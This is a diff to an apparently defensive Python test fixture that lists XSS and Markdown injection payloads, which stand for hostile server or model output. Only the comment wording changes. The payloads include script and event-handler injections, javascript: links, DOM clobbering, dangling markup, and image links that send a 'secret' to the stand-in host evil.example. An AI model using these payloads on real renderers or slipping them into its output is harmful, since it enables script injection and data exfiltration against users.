@@ -1,7 +1,7 @@
-"""Texts that a hostile server or model might answer with, each under the name of what it tries.
+"""Answers of a hostile server or model, each named for what it tries.
 
-Every payload that can run a script does it by calling ``pwned``, and every address that it would
-have the page fetch or go to is on the host ``evil.example``, so a test can look for either.
+Every script calls ``pwned``, and every address that the page might fetch or open is on the host
+``evil.example``, so a test can look for either.
 """
 
 from __future__ import annotations
@@ -61,7 +61,7 @@ PAYLOADS: dict[str, str] = {
     "popover": "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=pwned()>",
     "inline element": '<b onmouseover="pwned()">bold</b>',
     "closing the container": "</div></div></pre><script>pwned()</script>",
-    # Frames, forms, styles, and what else loads or redirects.
+    # Frames, forms, styles and whatever else loads or redirects.
     "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
     "iframe javascript": '<iframe src="javascript:pwned()"></iframe>',
     "iframe remote": '<iframe src="https://evil.example/"></iframe>',
@@ -84,7 +84,7 @@ PAYLOADS: dict[str, str] = {
     "form javascript": '<form action="javascript:pwned()"><button>Go</button></form>',
     "dom clobbering": '<a id="jupyter-config-data" name="jupyterapp">x</a>',
     "dangling markup": "<img src='https://evil.example/?",
-    # Links of Markdown.
+    # Markdown links.
     "link javascript": "[x](javascript:pwned())",
     "link javascript, upper case": "[x](JaVaScRiPt:pwned())",
     "link javascript, leading space": "[x]( javascript:pwned())",
@@ -128,7 +128,7 @@ PAYLOADS: dict[str, str] = {
     "autolink quote": '<https://evil.example/"onmouseover="pwned()>',
     "mail link": "<pwned@evil.example>",
     "mail link, header": "[x](mailto:a@evil.example?body=<script>pwned()</script>)",
-    # Images of Markdown.
+    # Markdown images.
     "image remote": "![x](https://evil.example/x.png?secret=1)",
     "image remote, reference": "![x][1]\n\n[1]: https://evil.example/x.png",
     "image remote, protocol-relative": "![x](//evil.example/x.png)",
@@ -140,7 +140,7 @@ PAYLOADS: dict[str, str] = {
     "image alt, nested": "![a ![b <img src=x onerror=pwned()>](y)](https://evil.example/x.png)",
     "image title": "![x](https://evil.example/x.png '\" onerror=\"pwned()')",
     "image in a link": "[![x](https://evil.example/x.png)](https://evil.example/)",
-    # Fences and other blocks that may end early.
+    # Fences and other blocks that might end early.
     "fence, then html": "```\ncode\n```\n<img src=x onerror=pwned()>",
     "fence in fence": "````\n```\n<script>pwned()</script>\n```\n````\n<script>pwned()</script>",
     "fence, malformed": "``` `\n<img src=x onerror=pwned()>\n```",
